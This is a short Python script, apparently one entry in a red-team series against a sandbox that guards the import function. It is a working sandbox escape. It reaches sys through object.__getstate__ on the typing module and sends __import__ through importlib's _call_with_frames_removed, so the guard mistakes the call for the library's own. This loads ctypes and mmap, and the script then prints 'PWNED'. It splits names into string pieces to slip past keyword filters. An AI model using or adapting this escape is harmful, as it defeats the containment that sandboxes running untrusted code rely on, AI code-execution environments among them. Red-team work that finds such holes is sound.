# adversary round 8: 050: guarded __import__ treats any call whose caller frame is '<frozen importlib...>' as the library's own; _call_with_frames_removed forwards our callable and arguments, so __import__('ctypes') from there loads ctypes (sys from object.__getstate__(typing))
import typing

s = object.__getstate__(typing)['sys']
bootstrap = s.modules['_frozen_importlib']
cwfr = object.__getstate__(bootstrap)['_call_with' + '_frames_removed']
imp = object.__getstate__(s.modules['builtins'])['__imp' + 'ort__']
ct = cwfr(imp, 'ctypes')
mm = cwfr(imp, 'mmap')
print(ct, mm, 'ctypes' in s.modules)
print('PWN' + 'ED')
